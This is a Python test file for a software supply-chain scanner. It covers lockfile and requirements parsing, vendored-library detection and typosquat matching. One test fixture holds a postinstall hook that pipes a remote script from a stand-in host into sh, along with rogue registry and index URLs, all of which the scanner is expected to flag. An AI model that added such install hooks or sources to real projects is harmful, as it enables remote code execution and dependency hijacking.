"""What a bundle declares: lockfiles of every version, requirements, pyproject, install scripts."""

from __future__ import annotations

import json
from pathlib import Path

from scanner.advisories.feeds import Detector
from scanner.advisories.versions import NPM, PYPI
from scanner.deps.components import DependencyScan
from scanner.deps.npm import scan_npm
from scanner.deps.python import scan_python
from scanner.deps.typosquat import PopularNames
from scanner.deps.vendored import VendoredLibraries
from scanner.findings import Category, Severity
from scanner.workspace import Workspace
from tests.conftest import workspace_of


def _ws(tmp_path: Path, files: dict[str, str | bytes]) -> Workspace:
    return workspace_of(tmp_path / "b", dict(files))


def _npm(tmp_path: Path, files: dict[str, str | bytes]) -> DependencyScan:
    scan = DependencyScan()
    scan_npm(_ws(tmp_path, files), scan)
    return scan


def test_lockfile_v3_with_nested_and_scoped_packages(tmp_path: Path) -> None:
    lock = {
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "p"},
            "node_modules/axios": {
                "version": "0.21.0",
                "resolved": "https://registry.npmjs.org/axios/-/axios-0.21.0.tgz",
            },
            "node_modules/@scope/lib": {"version": "2.0.0", "dev": True},
            "node_modules/a/node_modules/b": {"version": "1.0.0"},
        },
    }
    scan = _npm(tmp_path, {"package-lock.json": json.dumps(lock)})
    assert {(c.name, c.version, c.dev) for c in scan.components} == {
        ("axios", "0.21.0", False),
        ("@scope/lib", "2.0.0", True),
        ("b", "1.0.0", False),
    }
    assert scan.findings == []


def test_lockfile_v1_nested_dependencies(tmp_path: Path) -> None:
    lock = {
        "lockfileVersion": 1,
        "dependencies": {
            "lodash": {"version": "4.17.20", "dependencies": {"inner": {"version": "0.1.0"}}}
        },
    }
    scan = _npm(tmp_path, {"package-lock.json": json.dumps(lock)})
    assert {(c.name, c.version) for c in scan.components} == {
        ("lodash", "4.17.20"),
        ("inner", "0.1.0"),
    }


def test_package_json_without_lock_is_a_coverage_gap(tmp_path: Path) -> None:
    manifest = {"dependencies": {"react": "^18.0.0", "pinned": "1.2.3"}}
    scan = _npm(tmp_path, {"package.json": json.dumps(manifest)})
    assert [f.category for f in scan.findings] == [Category.COVERAGE]
    assert "react@^18.0.0" in scan.findings[0].message
    assert ("pinned", "1.2.3") in {(c.name, c.version) for c in scan.components}


def test_install_scripts_and_odd_sources_are_suspicious(tmp_path: Path) -> None:
    manifest = {
        "scripts": {"postinstall": "curl https://x.example/i.sh | sh", "build": "vite build"},
        "dependencies": {"evil": "git+https://example.invalid/evil.git", "local": "file:../x"},
    }
    lock = {
        "lockfileVersion": 2,
        "packages": {
            "node_modules/mirror": {
                "version": "1.0.0",
                "resolved": "https://npm.evil.example/mirror-1.0.0.tgz",
            }
        },
    }
    scan = _npm(
        tmp_path, {"package.json": json.dumps(manifest), "package-lock.json": json.dumps(lock)}
    )
    by_rule = [(f.rule_id, f.severity) for f in scan.findings]
    assert ("dep-install-script", Severity.HIGH) in by_rule
    assert sum(r == "dep-non-registry-source" for r, _ in by_rule) == 3
    script = next(f for f in scan.findings if f.rule_id == "dep-install-script")
    assert script.evidence == "curl https://x.example/i.sh | sh"


def test_broken_lockfile_is_reported_not_skipped(tmp_path: Path) -> None:
    scan = _npm(tmp_path, {"package-lock.json": "{not json"})
    assert [f.category for f in scan.findings] == [Category.COVERAGE]


def test_requirements_with_hashes_markers_includes_and_sources(tmp_path: Path) -> None:
    files = {
        "backend/requirements.txt": (
            "urllib3==1.24.1 \\\n    --hash=sha256:abcd\n"
            "requests[socks]==2.19.0 ; python_version >= '3.8'\n"
            "flask>=2\n-r base.txt\n-r ../../outside.txt\n"
            "--extra-index-url https://pypi.evil.example/simple\n"
            "git+https://example.invalid/x.git#egg=x\n"
        ),
        "backend/base.txt": "Django==3.2.0\n",
    }
    scan = DependencyScan()
    scan_python(_ws(tmp_path, files), scan)
    assert {(c.name, c.version) for c in scan.components} == {
        ("urllib3", "1.24.1"),
        ("requests", "2.19.0"),
        ("flask", None),
        ("Django", "3.2.0"),
    }
    rules = sorted(f.rule_id for f in scan.findings)
    assert rules == [
        "dep-non-default-registry",
        "dep-non-registry-source",
        "dep-not-audited",
        "dep-not-audited",
    ]
    assert any("outside.txt" in f.message for f in scan.findings)
    assert any("flask>=2" in f.message for f in scan.findings)


def test_pyproject_dependencies(tmp_path: Path) -> None:
    text = '[project]\nname = "b"\ndependencies = ["jinja2==2.10", "click"]\n'
    scan = DependencyScan()
    scan_python(_ws(tmp_path, {"backend/pyproject.toml": text}), scan)
    assert {(c.ecosystem, c.name, c.version) for c in scan.components} == {
        (PYPI, "jinja2", "2.10"),
        (PYPI, "click", None),
    }


def test_vendored_library_found_by_banner_hash_and_url(tmp_path: Path) -> None:
    import hashlib

    copied = b"/*! mylib v9.9.9 */ var x;"
    detectors = [
        Detector("jquery", "filecontent", r"/\*!? jQuery v(§§version§§)"),
        Detector("mylib", "hash", hashlib.sha1(copied, usedforsecurity=False).hexdigest(), "9.9.9"),
        Detector("dojo", "uri", r"/(§§version§§)/dojo/dojo\.js"),
        Detector("polyfill.io", "backdoor", r"^https://polyfill\.io/"),
    ]
    ws = _ws(
        tmp_path,
        {
            "dist/vendor.js": "/*! jQuery v1.8.3 | (c) jQuery Foundation */ !function(){}",
            "dist/copied.js": copied,
            "dist/loader.js": "load('https://cdn.example/1.6.0/dojo/dojo.js'); s.src='https://polyfill.io/v3/polyfill.min.js';",
            "assets/readme.txt": "/*! jQuery v1.0.0 */",  # not code: not a vendored library
        },
    )
    hits, backdoors = VendoredLibraries(detectors).scan(ws)
    assert {(h.component.name, h.component.version, h.how) for h in hits} == {
        ("jquery", "1.8.3", "filecontent"),
        ("mylib", "9.9.9", "hash"),
        ("dojo", "1.6.0", "uri"),
    }
    assert [(b.library, b.path) for b in backdoors] == [("polyfill.io", "dist/loader.js")]


def test_typosquats_and_confusables() -> None:
    popular = PopularNames(
        {NPM: frozenset({"lodash", "express", "react"}), PYPI: frozenset({"requests"})}
    )
    assert popular.near(NPM, "lodahs") == "lodash"  # swap
    assert popular.near(NPM, "expres") == "express"  # deletion
    assert popular.near(PYPI, "reqeusts") == "requests"
    assert popular.near(PYPI, "rekwests") is None  # two edits away
    assert popular.near(NPM, "l0dash") == "lodash"  # confusable digit
    assert popular.near(NPM, "lodash") is None  # the real one
    assert popular.near(NPM, "reac") is None  # too short to judge
